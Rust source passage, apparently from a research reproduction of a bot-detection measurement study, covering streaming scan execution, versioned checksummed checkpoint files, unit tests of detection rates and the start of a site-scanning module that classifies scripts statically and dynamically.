    fn new(rec: SiteScanRecord, gauge: Arc<InFlight>) -> TrackedRecord {
        let cur = gauge.cur.fetch_add(1, Ordering::Relaxed) + 1;
        gauge.peak.fetch_max(cur, Ordering::Relaxed);
        TrackedRecord { rec, gauge }
    }
}

impl Drop for TrackedRecord {
    fn drop(&mut self) {
        self.gauge.cur.fetch_sub(1, Ordering::Relaxed);
    }
}

/// The streaming counterpart of [`run_scan_inner`]: identical visit
/// pipeline, but records are folded to `()` the moment the flush hook
/// returns, so the outcome vector never holds site payloads and memory
/// stays bounded by the in-flight window.
fn run_stream_scan(
    cfg: ScanConfig,
    source: &ScanSource,
    prior: Vec<Option<VisitOutcome<()>>>,
    prior_attempts: &[u32],
    gauge: &Arc<InFlight>,
    on_complete: &(dyn Fn(usize, &VisitOutcome<TrackedRecord>, u32) + Sync),
) -> (CrawlSummary, Vec<CrawlHistoryRecord>) {
    let ranks: Vec<u32> = (0..cfg.n_sites).collect();
    let seed = cfg.seed;
    let interact = cfg.simulate_interaction;
    let g = Arc::clone(gauge);
    let phase = obs::phase("scan.visits");
    let crawl = run_supervised_folding(
        ranks,
        cfg.workers,
        cfg.supervisor(),
        |rank: &u32| source.meta(*rank),
        move |worker| {
            let mut config = BrowserConfig::scanner(seed);
            config.simulate_interaction = interact;
            Browser::new(config).with_instance(worker as u32)
        },
        move |browser, _idx, rank: &u32| {
            browser.set_visit_key(*rank as u64);
            let visit = source.site_visit(*rank);
            scan_site_visit(browser, &visit, true)
                .map(|rec| TrackedRecord::new(rec, Arc::clone(&g)))
        },
        prior,
        on_complete,
        |_, _rec, _| (),
    );
    drop(phase);
    let _phase = obs::phase("scan.aggregate");
    let mut history = Vec::with_capacity(crawl.outcomes.len());
    for (i, outcome) in crawl.outcomes.into_iter().enumerate() {
        let rank = i as u32;
        let url = source.front_url(rank);
        let attempts = if crawl.attempts[i] > 0 {
            crawl.attempts[i]
        } else {
            prior_attempts.get(i).copied().unwrap_or(1)
        };
        match outcome {
            VisitOutcome::Completed(()) => {
                history.push(CrawlHistoryRecord::ok(rank as u64, &url, attempts));
            }
            VisitOutcome::Failed { reason, attempts } => {
                history.push(CrawlHistoryRecord::failed(
                    rank as u64,
                    &url,
                    reason.as_str(),
                    attempts,
                ));
            }
            VisitOutcome::Interrupted => {
                history.push(CrawlHistoryRecord::interrupted(rank as u64, &url));
            }
        }
    }
    (crawl.summary, history)
}

// --- checkpoint serialisation ---------------------------------------------
//
// One line per determined site, ASCII control characters as separators
// (they cannot occur in generated domains, URLs or property names):
// US (\x1f) between top-level fields, RS (\x1e) between record fields,
// GS (\x1d) between list elements, FS (\x1c) inside pairs.
//
// v3 lines carry six US-separated body fields plus a checksum:
//
//   <rank> US <status> US <attempts> US <payload> US <hwm> US <delta> US <checksum>
//
// where status/payload is one of
//
//   ok      <encoded SiteScanRecord>   (classic checkpoint; hwm+delta empty)
//   failed  <failure reason>
//   flushed <fnv1a of the bundle entry, 016x>   (streaming only)
//
// `hwm` is the bundle-manifest high-water mark (016x) the line
// acknowledges and `delta` the visit's captured registry metrics —
// both only written by streaming mode; classic lines leave them empty.
//
// Interrupted sites are not written — resuming re-visits them. A torn
// final line (crawl killed mid-write) fails to parse and is skipped, so
// that site is simply re-visited too.

const US: char = '\x1f';
const RS: char = '\x1e';
const GS: char = '\x1d';
const FS: char = '\x1c';

/// Checkpoint file format version. Bumped whenever the line encoding
/// changes incompatibly; v2 introduced the header line itself, v3 the
/// high-water-mark and metrics-delta fields that make streaming resume
/// possible. A version mismatch is a hard error — before the header
/// existed, an old-format file would silently parse as "all lines torn"
/// and the crawl would quietly start over, exactly the kind of silent
/// degradation the paper warns about.
pub const CHECKPOINT_FORMAT_VERSION: u32 = 3;

const CHECKPOINT_MAGIC: &str = "gullible-checkpoint v";

fn checkpoint_header() -> String {
    format!("{CHECKPOINT_MAGIC}{CHECKPOINT_FORMAT_VERSION}")
}

/// Validate a checkpoint file's header line and return the body (the
/// site lines). Empty files are fine (fresh checkpoint); a missing or
/// mismatched header is a hard, descriptive error.
fn checkpoint_body<'s>(contents: &'s str, path: &Path) -> std::io::Result<&'s str> {
    if contents.is_empty() {
        return Ok(contents);
    }
    let (first, body) = contents.split_once('\n').unwrap_or((contents, ""));
    let Some(v) = first.strip_prefix(CHECKPOINT_MAGIC) else {
        return Err(std::io::Error::new(
            std::io::ErrorKind::InvalidData,
            format!(
                "{}: not a v{CHECKPOINT_FORMAT_VERSION} checkpoint (missing \
                 '{CHECKPOINT_MAGIC}N' header) — written by a pre-versioning build? \
                 Delete it or re-crawl with a matching build.",
                path.display()
            ),
        ));
    };
    let version: u32 = v.trim().parse().map_err(|_| {
        std::io::Error::new(
            std::io::ErrorKind::InvalidData,
            format!("{}: corrupt checkpoint header {first:?}", path.display()),
        )
    })?;
    if version != CHECKPOINT_FORMAT_VERSION {
        return Err(std::io::Error::new(
            std::io::ErrorKind::InvalidData,
            format!(
                "{}: checkpoint format v{version} but this build reads \
                 v{CHECKPOINT_FORMAT_VERSION} — resume with the matching build or re-crawl",
                path.display()
            ),
        ));
    }
    Ok(body)
}

fn flags_encode(f: &PageFlags) -> String {
    [f.static_identified, f.static_true, f.dynamic_identified, f.dynamic_true]
        .iter()
        .map(|b| if *b { '1' } else { '0' })
        .collect()
}

fn flags_decode(s: &str) -> Option<PageFlags> {
    let b: Vec<bool> = s
        .chars()
        .map(|c| match c {
            '1' => Some(true),
            '0' => Some(false),
            _ => None,
        })
        .collect::<Option<Vec<bool>>>()?;
    if b.len() != 4 {
        return None;
    }
    Some(PageFlags {
        static_identified: b[0],
        static_true: b[1],
        dynamic_identified: b[2],
        dynamic_true: b[3],
    })
}

fn join_list<T, F: Fn(&T) -> String>(items: &[T], f: F) -> String {
    items.iter().map(f).collect::<Vec<String>>().join(&GS.to_string())
}

fn split_list(s: &str) -> Vec<&str> {
    if s.is_empty() {
        Vec::new()
    } else {
        s.split(GS).collect()
    }
}

/// Serialise a completed site record for the checkpoint file.
pub fn encode_site_record(r: &SiteScanRecord) -> String {
    let fields = [
        r.rank.to_string(),
        r.domain.clone(),
        join_list(&r.categories, |c| c.name().to_string()),
        flags_encode(&r.front),
        flags_encode(&r.site),
        join_list(&r.openwpm_probes, |(p, n)| format!("{p}{FS}{n}")),
        join_list(&r.third_party_domains, |d| d.clone()),
        join_list(&r.first_party_urls, |u| u.clone()),
        join_list(&r.script_hashes, |h| format!("{h:x}")),
    ];
    fields.join(&RS.to_string())
}

/// Inverse of [`encode_site_record`]. `None` on any malformed input.
pub fn decode_site_record(s: &str) -> Option<SiteScanRecord> {
    let f: Vec<&str> = s.split(RS).collect();
    if f.len() != 9 {
        return None;
    }
    Some(SiteScanRecord {
        rank: f[0].parse().ok()?,
        domain: f[1].to_string(),
        categories: split_list(f[2])
            .into_iter()
            .map(Category::from_name)
            .collect::<Option<Vec<Category>>>()?,
        front: flags_decode(f[3])?,
        site: flags_decode(f[4])?,
        openwpm_probes: split_list(f[5])
            .into_iter()
            .map(|pair| {
                let (p, n) = pair.split_once(FS)?;
                Some((p.to_string(), n.to_string()))
            })
            .collect::<Option<Vec<(String, String)>>>()?,
        third_party_domains: split_list(f[6]).into_iter().map(String::from).collect(),
        first_party_urls: split_list(f[7]).into_iter().map(String::from).collect(),
        script_hashes: split_list(f[8])
            .into_iter()
            .map(|h| u64::from_str_radix(h, 16).ok())
            .collect::<Option<Vec<u64>>>()?,
    })
}

/// FNV-1a over a checkpoint line body. A torn write can truncate a line at
/// a point where the prefix still *parses* (e.g. mid-way through the final
/// hash list), so every line carries its own checksum.
fn line_checksum(body: &str) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for b in body.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x100_0000_01b3);
    }
    h
}

/// One checkpoint line for a determined outcome (`None` for interrupted
/// sites, which must be re-visited on resume). Classic mode: the
/// high-water-mark and delta fields stay empty.
pub fn checkpoint_line(
    rank: u32,
    outcome: &VisitOutcome<SiteScanRecord>,
    attempts: u32,
) -> Option<String> {
    let body = match outcome {
        VisitOutcome::Completed(rec) => {
            format!("{rank}{US}ok{US}{attempts}{US}{}{US}{US}", encode_site_record(rec))
        }
        VisitOutcome::Failed { reason, attempts } => {
            format!("{rank}{US}failed{US}{attempts}{US}{}{US}{US}", reason.as_str())
        }
        VisitOutcome::Interrupted => return None,
    };
    let sum = line_checksum(&body);
    Some(format!("{body}{US}{sum:016x}"))
}

/// One streaming checkpoint line acknowledging the bundle append that
/// ended at manifest offset `hwm`, carrying the visit's captured
/// registry-metrics delta.
pub(crate) fn stream_checkpoint_line(
    rank: u32,
    status: &str,
    attempts: u32,
    payload: &str,
    hwm: u64,
    delta: &str,
) -> String {
    let body = format!("{rank}{US}{status}{US}{attempts}{US}{payload}{US}{hwm:016x}{US}{delta}");
    let sum = line_checksum(&body);
    format!("{body}{US}{sum:016x}")
}

/// The six body fields of a checksum-verified v3 checkpoint line. None of
/// the payload encodings ever contain US, so a plain split is exact.
struct CheckpointFields<'s> {
    rank: u32,
    status: &'s str,
    attempts: u32,
    payload: &'s str,
    hwm: &'s str,
    delta: &'s str,
}

fn checkpoint_fields(line: &str) -> Option<CheckpointFields<'_>> {
    let (body, sum) = line.rsplit_once(US)?;
    if u64::from_str_radix(sum, 16).ok()? != line_checksum(body) {
        return None;
    }
    let parts: Vec<&str> = body.split(US).collect();
    let [rank, status, attempts, payload, hwm, delta] = parts.as_slice() else {
        return None;
    };
    Some(CheckpointFields {
        rank: rank.parse().ok()?,
        status,
        attempts: attempts.parse().ok()?,
        payload,
        hwm,
        delta,
    })
}

/// Parse one checkpoint line into `(rank, outcome, attempts)`. Streaming
/// `flushed` lines return `None` — their payload is a bundle-entry hash,
/// not a record; resolving them requires the bundle
/// ([`Scan::stream_to`]'s resume path does that internally).
pub fn parse_checkpoint_line(
    line: &str,
) -> Option<(u32, VisitOutcome<SiteScanRecord>, u32)> {
    let f = checkpoint_fields(line)?;
    let outcome = match f.status {
        "ok" => VisitOutcome::Completed(decode_site_record(f.payload)?),
        "failed" => VisitOutcome::Failed {
            reason: FailureReason::decode(f.payload),
            attempts: f.attempts,
        },
        _ => return None,
    };
    Some((f.rank, outcome, f.attempts))
}

/// Load checkpoint file contents into resume state for an `n_sites` scan.
/// Malformed lines (e.g. a torn final write) and out-of-range ranks are
/// skipped — those sites are simply re-visited — but *counted*: the third
/// element reports how many lines were dropped, which flows into
/// [`CrawlSummary::checkpoint_lines_dropped`] and the coverage line, so a
/// corrupted checkpoint can't silently masquerade as a clean resume.
pub fn load_checkpoint(
    contents: &str,
    n_sites: u32,
) -> (Vec<Option<VisitOutcome<SiteScanRecord>>>, Vec<u32>, usize) {
    let mut prior: Vec<Option<VisitOutcome<SiteScanRecord>>> =
        (0..n_sites).map(|_| None).collect();
    let mut attempts = vec![0u32; n_sites as usize];
    let mut dropped = 0usize;
    for (lineno, line) in contents.lines().enumerate() {
        match parse_checkpoint_line(line) {
            Some((rank, outcome, att)) if (rank as usize) < prior.len() => {
                attempts[rank as usize] = att;
                prior[rank as usize] = Some(outcome);
            }
            Some((rank, _, _)) => {
                dropped += 1;
                obs::add("checkpoint.lines_dropped", 1);
                obs::emit(
                    obs::Event::new(0, "checkpoint_dropped_line")
                        .attr("line", lineno + 1)
                        .attr("cause", "rank_out_of_range")
                        .attr("rank", rank),
                );
            }
            None => {
                dropped += 1;
                obs::add("checkpoint.lines_dropped", 1);
                obs::add("crash.checkpoint.torn", 1);
                obs::emit(
                    obs::Event::new(0, "checkpoint_dropped_line")
                        .attr("line", lineno + 1)
                        .attr("cause", "torn_or_corrupt"),
                );
            }
        }
    }
    (prior, attempts, dropped)
}

/// The checkpoint file a streamed scan keeps inside its bundle directory.
pub const STREAM_CHECKPOINT_FILE: &str = "scan.ckpt";

/// One surviving line of a streaming checkpoint.
struct StreamLine {
    rank: u32,
    /// `None` for a flushed (completed) record, `Some` for a typed failure.
    failed: Option<FailureReason>,
    attempts: u32,
    /// The bundle-entry hash a `flushed` line acknowledges.
    entry_hash: Option<u64>,
    /// Manifest high-water mark after this line's append.
    hwm: u64,
    /// Captured registry-metrics delta of the visit.
    delta: String,
}

/// Load a streaming checkpoint body. Lines that are torn, corrupt,
/// out-of-range, classic-format, or carry an undecodable metrics delta
/// are dropped and counted — the affected sites are re-visited; nothing
/// is trusted on spec.
fn load_stream_checkpoint(contents: &str, n_sites: u32) -> (Vec<StreamLine>, usize) {
    let mut lines = Vec::new();
    let mut dropped = 0usize;
    for (lineno, line) in contents.lines().enumerate() {
        let parsed = checkpoint_fields(line).and_then(|f| {
            if f.rank >= n_sites {
                return None;
            }
            let hwm = u64::from_str_radix(f.hwm, 16).ok()?;
            obs::decode_scope_metrics(f.delta)?;
            match f.status {
                "flushed" => Some(StreamLine {
                    rank: f.rank,
                    failed: None,
                    attempts: f.attempts,
                    entry_hash: Some(u64::from_str_radix(f.payload, 16).ok()?),
                    hwm,
                    delta: f.delta.to_string(),
                }),
                "failed" => Some(StreamLine {
                    rank: f.rank,
                    failed: Some(FailureReason::decode(f.payload)),
                    attempts: f.attempts,
                    entry_hash: None,
                    hwm,
                    delta: f.delta.to_string(),
                }),
                _ => None,
            }
        });
        match parsed {
            Some(l) => lines.push(l),
            None => {
                dropped += 1;
                obs::add("checkpoint.lines_dropped", 1);
                obs::add("crash.checkpoint.torn", 1);
                obs::emit(
                    obs::Event::new(0, "checkpoint_dropped_line")
                        .attr("line", lineno + 1)
                        .attr("cause", "torn_or_corrupt"),
                );
            }
        }
    }
    (lines, dropped)
}

/// Write the version header to `<path>.tmp`, sync, and rename into
/// place: after a kill at any instant the file either doesn't exist or
/// has a complete, valid header.
fn write_checkpoint_header_atomic(path: &Path) -> std::io::Result<()> {
    let tmp = path.with_extension("tmp");
    let mut f = std::fs::File::create(&tmp)?;
    writeln!(f, "{}", checkpoint_header())?;
    f.sync_all()?;
    std::fs::rename(&tmp, path)?;
    Ok(())
}

/// Create (or reset) a streaming checkpoint and open it for appending.
/// Always truncates: this path is only taken when nothing in the
/// directory is trusted, and a stale torn checkpoint must not survive
/// into the fresh run.
fn create_stream_checkpoint(path: &Path) -> std::io::Result<std::fs::File> {
    write_checkpoint_header_atomic(path)?;
    std::fs::OpenOptions::new().append(true).open(path)
}

/// Run a scan with durable checkpointing.
#[deprecated(note = "use the `Scan` builder: `Scan::new(cfg).checkpoint(path).run()`")]
pub fn run_scan_with_checkpoint(cfg: ScanConfig, path: &Path) -> std::io::Result<ScanReport> {
    Scan::new(cfg).checkpoint(path).run()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small_scan() -> ScanReport {
        Scan::new(ScanConfig { ..ScanConfig::new(800, 11) }).run().expect("scan")
    }

    #[test]
    fn scan_detects_sites_at_paper_like_rates() {
        let report = small_scan();
        let [(_si, st), (_di, dt), (ui, ut)] = report.table5();
        // At n=800 the paper's rates scale to: static true ≈ 127,
        // dynamic true ≈ 134, union true ≈ 150, identified union ≈ 290.
        assert!((90..=175).contains(&st), "static true = {st}");
        assert!((95..=180).contains(&dt), "dynamic true = {dt}");
        assert!((110..=200).contains(&ut), "union true = {ut}");
        assert!(ui > ut, "identified ({ui}) must exceed true ({ut}) — FP classes exist");
    }

    #[test]
    fn static_and_dynamic_have_exclusive_findings() {
        let report = small_scan();
        let static_only =
            report.count(|s| s.site.static_true && !s.site.dynamic_true);
        let dynamic_only =
            report.count(|s| s.site.dynamic_true && !s.site.static_true);
        assert!(static_only > 0, "hover-gated detectors must be static-only");
        assert!(dynamic_only > 0, "constructed probes must be dynamic-only");
    }

    #[test]
    fn subpages_increase_detection() {
        let report = small_scan();
        let front = report.count(|s| s.front.union_true());
        let site = report.count(|s| s.site.union_true());
        assert!(site > front, "subpage scan must add detector sites: {front} vs {site}");
        // Paper: ≥ 37% more sites with active (dynamic) detectors.
        let front_dyn = report.count(|s| s.front.dynamic_true);
        let site_dyn = report.count(|s| s.site.dynamic_true);
        assert!(
            site_dyn as f64 >= front_dyn as f64 * 1.15,
            "dynamic uplift too small: {front_dyn} -> {site_dyn}"
        );
    }

    #[test]
    fn openwpm_specific_probes_found() {
        let report = small_scan();
        let t6 = report.table6();
        // cheqzone is by far the largest provider (331/100K ⇒ ~2-3 at 800).
        assert!(
            t6.contains_key("cheqzone.com"),
            "providers found: {:?}",
            t6.keys().collect::<Vec<_>>()
        );
        let cheq = &t6["cheqzone.com"];
        assert!(cheq.contains_key("jsInstruments"), "cheq probes: {cheq:?}");
    }

    #[test]
    fn third_party_providers_ranked_with_yandex_on_top() {
        let report = small_scan();
        let t7 = report.table7();
        assert!(!t7.is_empty());
        // yandex.ru holds ~18% of inclusions — it must rank in the top 3.
        let top3: Vec<&str> = t7.iter().take(3).map(|(d, _)| d.as_str()).collect();
        assert!(top3.contains(&"yandex.ru"), "top3: {top3:?}");
    }

    #[test]
    fn first_party_clusters_match_table12_patterns() {
        let report = small_scan();
        let t12 = report.table12();
        let total: u32 = t12.values().sum();
        // 3,867/100K ⇒ ~31 at n=800.
        assert!((15..=50).contains(&total), "first-party sites = {total}, {t12:?}");
        assert!(t12.contains_key("Akamai") || t12.contains_key("Incapsula"), "{t12:?}");
    }

    #[test]
    fn first_party_origin_classifier() {
        assert_eq!(first_party_origin_of("https://a.com/akam/11/pixel"), "Akamai");
        assert_eq!(
            first_party_origin_of("https://a.com/_Incapsula_Resource?x=1"),
            "Incapsula"
        );
        assert_eq!(
            first_party_origin_of("https://a.com/cdn-cgi/bm/cv/2172558837/api.js"),
            "Cloudflare"
        );
        assert_eq!(first_party_origin_of("https://a.com/abcdefgh/init.js"), "PerimeterX");
        assert_eq!(
            first_party_origin_of(&format!("https://a.com/assets/{:032x}", 0xabcdu64)),
            "Unknown"
        );
        assert_eq!(first_party_origin_of("https://a.com/js/bot-check.js"), "SelfBuilt");
    }

    #[test]
    fn interaction_surfaces_hover_gated_detectors_dynamically() {
        // Ablation: an HLISA-style interacting crawl executes the
        // hover-gated probes that the paper's non-interacting scan could
        // only find statically.
        let passive = Scan::new(ScanConfig::new(600, 11)).run().expect("scan");
        let active = Scan::new(ScanConfig {
            simulate_interaction: true,
            ..ScanConfig::new(600, 11)
        }).run().expect("scan");
        let passive_dyn = passive.count(|s| s.site.dynamic_true);
        let active_dyn = active.count(|s| s.site.dynamic_true);
        assert!(
            active_dyn > passive_dyn,
            "interaction must add dynamic findings: {passive_dyn} -> {active_dyn}"
        );
        // Static findings are unaffected by interaction.
        assert_eq!(
            passive.count(|s| s.site.static_true),
            active.count(|s| s.site.static_true)
        );
    }

    #[test]
    fn script_stats_count_collected_and_unique() {
        let report = small_scan();
        let (total, unique) = report.script_stats();
        assert!(total > 0);
        assert!(unique > 0 && unique <= total);
        // Shared third-party detector bodies dedupe heavily, per-site
        // scripts stay distinct-ish.
        assert!(unique < total, "shared provider scripts must dedupe");
    }

    #[test]
    fn rank_buckets_cover_all_sites() {
        let report = small_scan();
        let buckets = report.rank_buckets(100);
        assert_eq!(buckets.len(), 8);
        let front_static_total: u32 = buckets.iter().map(|b| b[0]).sum();
        assert_eq!(front_static_total, report.count(|s| s.front.static_true));
    }

    #[test]
    fn clean_scan_has_full_coverage_and_ok_history() {
        let report = small_scan();
        assert_eq!(report.completion.completed, 800);
        assert_eq!(report.completion.failed, 0);
        assert_eq!(report.completion.completion_rate(), 1.0);
        assert_eq!(report.history.len(), 800);
        assert!(report
            .history
            .iter()
            .all(|h| h.status == openwpm::CrawlStatus::Ok && h.attempts == 1));
        assert!(report.coverage_line().contains("800/800"));
    }

    #[test]
    fn faulty_scan_degrades_gracefully_and_reports_failures() {
        let cfg = ScanConfig {
            faults: FaultPlan::adversarial(21),
            ..ScanConfig::new(400, 55)
        };
        let report = Scan::new(cfg).run().expect("scan");
        assert_eq!(report.completion.total, 400);
        assert_eq!(report.sites.len(), report.completion.completed);
        assert_eq!(report.history.len(), 400);
        // Failed sites appear in history with a typed reason.
        for h in &report.history {
            if h.status == openwpm::CrawlStatus::Failed {
                assert!(FailureReason::parse(&h.error).is_some(), "reason {:?}", h.error);
                assert_eq!(h.attempts, cfg.retry.max_attempts);
            }
        }
        assert!(report.completion.completion_rate() > 0.9);
    }

    #[test]
    fn faulty_scan_is_deterministic_across_worker_counts() {
        let base = ScanConfig {
            faults: FaultPlan::adversarial(5),
            ..ScanConfig::new(300, 9)
        };
        let a = Scan::new(ScanConfig { workers: 1, ..base }).run().expect("scan");
        let b = Scan::new(ScanConfig { workers: 4, ..base }).run().expect("scan");
        assert_eq!(a.completion, b.completion);
        assert_eq!(a.history, b.history);
        assert_eq!(a.table5(), b.table5());
        assert_eq!(a.table12(), b.table12());
        // The surviving record set is identical site-for-site in the
        // fields the aggregates read (event-id seeds may differ with
        // worker count; classification flags are robust to that).
        assert_eq!(a.sites.len(), b.sites.len());
        for (x, y) in a.sites.iter().zip(&b.sites) {
            assert_eq!(x.rank, y.rank);
            assert_eq!(x.front, y.front);
            assert_eq!(x.site, y.site);
            assert_eq!(x.third_party_domains, y.third_party_domains);
            assert_eq!(x.first_party_urls, y.first_party_urls);
        }
    }

    #[test]
    fn site_record_roundtrips_through_checkpoint_encoding() {
        let report = small_scan();
        // Exercise a spread of records including detector-rich ones.
        for rec in report.sites.iter().take(200) {
            let enc = encode_site_record(rec);
            let dec = decode_site_record(&enc).expect("roundtrip decode");
            assert_eq!(dec, *rec);
        }
    }

    #[test]
    fn checkpoint_lines_roundtrip_and_reject_garbage() {
        let rec = SiteScanRecord {
            rank: 17,
            domain: "w000017.io".into(),
            categories: vec![Category::News, Category::Other],
            front: PageFlags { static_true: true, ..PageFlags::default() },
            site: PageFlags {
                static_identified: true,
                static_true: true,
                ..PageFlags::default()
            },
            openwpm_probes: vec![("cheqzone.com".into(), "jsInstruments".into())],
            third_party_domains: vec!["yandex.ru".into()],
            first_party_urls: vec!["https://w000017.io/akam/11/x".into()],
            script_hashes: vec![1, 0xDEAD_BEEF],
        };
        let ok_line =
            checkpoint_line(17, &VisitOutcome::Completed(rec.clone()), 2).unwrap();
        let (rank, outcome, attempts) = parse_checkpoint_line(&ok_line).unwrap();
        assert_eq!(rank, 17);
        assert_eq!(attempts, 2);
        assert_eq!(outcome.completed().unwrap().domain, rec.domain);

        let fail_line = checkpoint_line(
            3,
            &VisitOutcome::Failed { reason: FailureReason::Timeout, attempts: 3 },
            3,
        )
        .unwrap();
        let (rank, outcome, _) = parse_checkpoint_line(&fail_line).unwrap();
        assert_eq!(rank, 3);
        assert_eq!(
            outcome,
            VisitOutcome::Failed { reason: FailureReason::Timeout, attempts: 3 }
        );

        assert!(checkpoint_line(5, &VisitOutcome::Interrupted, 0).is_none());
        assert!(parse_checkpoint_line("").is_none());
        assert!(parse_checkpoint_line("garbage").is_none());
        // A torn ok-line (payload truncated mid-record) fails cleanly.
        let torn = &ok_line[..ok_line.len() - 20];
        assert!(parse_checkpoint_line(torn).is_none());
    }

    #[test]
    fn load_checkpoint_counts_bad_lines_and_out_of_range_ranks() {
        let rec = Scan::new(ScanConfig::new(20, 3)).run().expect("scan").sites[4].clone();
        let good = checkpoint_line(4, &VisitOutcome::Completed(rec), 1).unwrap();
        let out_of_range = checkpoint_line(
            500,
            &VisitOutcome::Failed { reason: FailureReason::Panic, attempts: 3 },
            3,
        )
        .unwrap();
        let contents = format!("{good}\nnot a line\n{out_of_range}\n");
        let (prior, attempts, dropped) = load_checkpoint(&contents, 20);
        assert_eq!(prior.iter().filter(|p| p.is_some()).count(), 1);
        assert!(prior[4].is_some());
        assert_eq!(attempts[4], 1);
        assert_eq!(dropped, 2, "torn line + out-of-range rank must be counted");
    }

    #[test]
    fn dropped_checkpoint_lines_surface_on_the_coverage_line() {
        let mut summary = CrawlSummary {
            total: 10,
            completed: 10,
            checkpoint_lines_dropped: 3,
            ..Default::default()
        };
        assert!(
            summary.coverage_line().ends_with("; 3 checkpoint lines dropped"),
            "{}",
            summary.coverage_line()
        );
        summary.checkpoint_lines_dropped = 0;
        assert!(!summary.coverage_line().contains("checkpoint"));
    }
}
