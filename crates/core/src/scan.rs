//! The Tranco-100K scan for client-side bot detection (paper Sec. 4).
//!
//! For every site: visit the front page and up to three subpages with the
//! scanning client (vanilla OpenWPM + honey properties + OpenWPM-property
//! watches), save every delivered script, record every JavaScript call,
//! then classify each script with the combined static + dynamic pipeline.
//! The aggregation reproduces Tables 5–7, 11–12 and the data behind
//! Figures 3–5.

use std::collections::BTreeMap;

use detect::{analyse, preprocess, DynamicClass, StaticPattern};
use netsim::url::etld1_of;
use netsim::Url;
use openwpm::manager::run_parallel;
use openwpm::{Browser, BrowserConfig, SiteResponse};
use webgen::{visit_spec, Category, PageKind, Population, SitePlan};

/// Scan configuration.
#[derive(Clone, Copy, Debug)]
pub struct ScanConfig {
    pub n_sites: u32,
    pub seed: u64,
    pub workers: usize,
    /// Also visit up to three subpages (the paper's deep scan).
    pub include_subpages: bool,
    /// Simulate user interaction during the dwell (HLISA-style). The
    /// paper's scan did not; with interaction, hover-gated detectors fire
    /// and become dynamically visible (an ablation of Sec. 4.1's
    /// "code that happens not to be executed" limitation).
    pub simulate_interaction: bool,
}

impl ScanConfig {
    pub fn new(n_sites: u32, seed: u64) -> ScanConfig {
        ScanConfig {
            n_sites,
            seed,
            workers: 4,
            include_subpages: true,
            simulate_interaction: false,
        }
    }
}

/// Per-page detection flags.
#[derive(Clone, Copy, Debug, Default)]
pub struct PageFlags {
    /// Naive static pattern matched some script (includes false positives).
    pub static_identified: bool,
    /// Precise static patterns matched (true static finding).
    pub static_true: bool,
    /// Dynamic analysis saw fingerprint-surface access (includes
    /// inconclusive iterators).
    pub dynamic_identified: bool,
    /// Dynamic classification says Detector.
    pub dynamic_true: bool,
}

impl PageFlags {
    pub fn union_true(&self) -> bool {
        self.static_true || self.dynamic_true
    }

    pub fn union_identified(&self) -> bool {
        self.static_identified || self.dynamic_identified
    }

    fn or(&mut self, other: PageFlags) {
        self.static_identified |= other.static_identified;
        self.static_true |= other.static_true;
        self.dynamic_identified |= other.dynamic_identified;
        self.dynamic_true |= other.dynamic_true;
    }
}

/// One site's scan outcome.
#[derive(Clone, Debug)]
pub struct SiteScanRecord {
    pub rank: u32,
    pub domain: String,
    pub categories: Vec<Category>,
    pub front: PageFlags,
    /// Front ∪ subpages.
    pub site: PageFlags,
    /// `(provider domain, property)` pairs of OpenWPM-specific probes.
    pub openwpm_probes: Vec<(String, String)>,
    /// Hosting domains (eTLD+1) of third-party detector scripts.
    pub third_party_domains: Vec<String>,
    /// URLs of first-party detector scripts (Table 12 clustering input).
    pub first_party_urls: Vec<String>,
    /// FNV-1a hashes of every script body collected on this site (the
    /// paper's corpus statistic: 1,535,306 unique scripts over 100K sites).
    pub script_hashes: Vec<u64>,
}

/// Scan one site with a scanning browser.
pub fn scan_site(browser: &mut Browser, plan: &SitePlan, include_subpages: bool) -> SiteScanRecord {
    let mut record = SiteScanRecord {
        rank: plan.rank,
        domain: plan.domain.clone(),
        categories: plan.categories.clone(),
        front: PageFlags::default(),
        site: PageFlags::default(),
        openwpm_probes: Vec::new(),
        third_party_domains: Vec::new(),
        first_party_urls: Vec::new(),
        script_hashes: Vec::new(),
    };
    let mut pages = vec![PageKind::Front];
    if include_subpages {
        for i in 0..plan.subpage_count.min(3) {
            pages.push(PageKind::Subpage(i));
        }
    }
    for page in pages {
        let mut spec = visit_spec(plan, page);
        spec.dwell_override_s = Some(61); // covers 500 ms-delayed probes + 60 s dwell
        browser.visit(&spec, |_traffic| SiteResponse::default());
        let store = browser.take_store();
        let flags = classify_page(&store, plan, &mut record);
        if matches!(page, PageKind::Front) {
            record.front = flags;
        }
        record.site.or(flags);
    }
    record.third_party_domains.sort();
    record.third_party_domains.dedup();
    record.first_party_urls.sort();
    record.first_party_urls.dedup();
    record.openwpm_probes.sort();
    record.openwpm_probes.dedup();
    record
}

/// Classify one page's records; appends attribution data to `record`.
fn classify_page(
    store: &openwpm::RecordStore,
    plan: &SitePlan,
    record: &mut SiteScanRecord,
) -> PageFlags {
    let mut flags = PageFlags::default();
    let site_etld1 = etld1_of(&plan.domain);

    // --- static pipeline over saved scripts ---
    let mut static_by_url: BTreeMap<&str, detect::StaticFinding> = BTreeMap::new();
    for script in &store.saved_scripts {
        record.script_hashes.push(fnv1a(script.body.as_bytes()));
        let finding = analyse(&script.body);
        let pre = preprocess(&script.body);
        let naive = StaticPattern::WebdriverLiteral.matches(&pre);
        if naive || finding.is_detector() {
            flags.static_identified = true;
        }
        if finding.is_detector() {
            flags.static_true = true;
            attribute_script(&script.url, site_etld1.as_str(), record);
        }
        for prop in &finding.openwpm_props {
            if let Some(u) = Url::parse(&script.url) {
                record.openwpm_probes.push((u.etld1(), (*prop).to_owned()));
            }
        }
        static_by_url.insert(script.url.as_str(), finding);
    }

    // --- dynamic pipeline over recorded calls ---
    let honey_total = 10; // the scanner config's honey property count
    for obs in detect::observe(store) {
        let statically_flagged = static_by_url
            .get(obs.script_url.as_str())
            .map(|f| f.selenium)
            .unwrap_or(false);
        let touched = obs.accessed_webdriver || !obs.openwpm_props.is_empty();
        if touched {
            flags.dynamic_identified = true;
        }
        match obs.classify(honey_total, statically_flagged) {
            DynamicClass::Detector => {
                flags.dynamic_true = true;
                attribute_script(&obs.script_url, site_etld1.as_str(), record);
                for prop in &obs.openwpm_props {
                    if let Some(u) = Url::parse(&obs.script_url) {
                        let name = prop.trim_start_matches("window.").to_owned();
                        record.openwpm_probes.push((u.etld1(), name));
                    }
                }
            }
            DynamicClass::Inconclusive | DynamicClass::NotDetector => {}
        }
    }
    flags
}

/// FNV-1a over bytes — the script-identity hash of the corpus statistics.
fn fnv1a(bytes: &[u8]) -> u64 {
